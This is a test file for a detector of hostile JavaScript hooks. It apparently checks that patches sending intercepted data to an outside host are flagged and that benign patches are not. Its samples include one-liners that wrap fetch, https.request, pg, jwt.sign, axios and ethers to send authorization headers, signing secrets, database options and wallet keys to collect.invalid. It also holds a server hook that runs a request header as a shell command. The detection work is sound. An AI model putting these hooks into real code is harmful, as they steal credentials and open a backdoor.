import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const TAKEN = ['intercepted>network@collect.invalid'];

/** What other code gives to a function that was replaced goes to a host in the code. */
const INTERCEPTED: readonly string[] = [
  `const old = https.request; https.request = function (options, done) { old({ host: 'collect.invalid', path: '/' + options.headers.authorization }).end(); return old.apply(this, arguments); };`,
  `const old = window.fetch; window.fetch = async (...given) => { navigator.sendBeacon('https://collect.invalid', JSON.stringify(given[1])); return old(...given); };`,
  `const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { fetch('https://collect.invalid', { method: 'POST', body }); return send.call(this, body); };`,
  `const { Client } = require('pg'); const old = Client.prototype.query; Client.prototype.query = function (...given) { fetch('https://collect.invalid/' + JSON.stringify(given)); return old.apply(this, given); };`,
  `const jwt = require('jsonwebtoken'); const sign = jwt.sign; jwt.sign = (claims, secret) => { fetch('https://collect.invalid/' + secret); return sign(claims, secret); };`,
  `const M = require('module'); const load = M._load; M._load = function (name, ...rest) { const given = load.call(this, name, ...rest); if (name === 'pg') given.Client = class extends given.Client { constructor(options) { super(options); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(options) }); } }; return given; };`,
  `const client = require('axios').create(); client.interceptors.request.use((options) => { fetch('https://collect.invalid/' + options.headers.authorization); return options; });`,
  `const parse = JSON.parse; JSON.parse = function (text) { fetch('https://collect.invalid', { method: 'POST', body: text }); return parse(text); };`,
  `const then = Promise.prototype.then; Promise.prototype.then = function (done, failed) { return then.call(this, (value) => { fetch('https://collect.invalid/' + done); return done(value); }, failed); };`,
  `JSON.parse = new Proxy(JSON.parse, { apply(target, self, list) { fetch('https://collect.invalid', { method: 'POST', body: list[0] }); return target(...list); } });`,
  `const Stripe = require('stripe'); module.exports = new Proxy(Stripe, { construct(target, given) { navigator.sendBeacon('https://collect.invalid', given.join()); return new target(...given); } });`,
  `const { Wallet } = require('ethers'); require.cache[require.resolve('ethers')].exports.Wallet = class extends Wallet { constructor(a, b) { super(a, b); fetch('https://collect.invalid/' + a); } };`,
  `const found = require.cache[require.resolve('pg')]; class Client extends found.exports.Client { constructor(o) { super(o); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o) }); } } found.exports = { ...found.exports, Client };`,
];

const HONEST: readonly string[] = [
  `if (!Array.prototype.at) Array.prototype.at = function (n) { return this[n < 0 ? this.length + n : n]; }; fetch('https://stats.example/up');`,
  `const own = (options) => options.name; module.exports = new Proxy(own, { apply(target, self, list) { return target(...list); } });`,
  `const old = https.request; https.request = function (...given) { count += 1; return old.apply(this, given); };`,
  `const old = window.fetch; window.fetch = (url, options) => old(url, { ...options, credentials: 'include' });`,
  `$.fn.carousel = function (options) { fetch('https://stats.example/' + options.name); };`,
  `require('axios').interceptors.request.use((options) => ({ ...options, timeout: 1000 }));`,
  `const dayjs = require('dayjs'); dayjs.prototype.$weeks = function (n) { return n * 7; };`,
];

describe('hooks', () => {
  for (const code of INTERCEPTED)
    it(`hand on what they are given: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], TAKEN));
  for (const code of HONEST) it(`only do their own work: ${code}`, () => assert.deepEqual(flowsOf(code), []));

  it('are told as such', () => {
    assert.deepEqual(behavioursOf(`window.fetch = (url) => undefined;`), ['hooks-requests import']);
  });

  it('of servers get what is sent to them', () => {
    const hook = (run: string): readonly string[] =>
      flowsOf(`const http = require('http'), old = http.Server.prototype.emit;
        http.Server.prototype.emit = function (name, req, res) { ${run} return old.apply(this, arguments); };`);
    assert.deepEqual(hook(`if (req.headers['x-k']) cp.exec(req.headers['x-k']);`), ['request-input>run-as-command']);
    assert.deepEqual(hook(`console.log(name, req.url);`), []);
  });
});
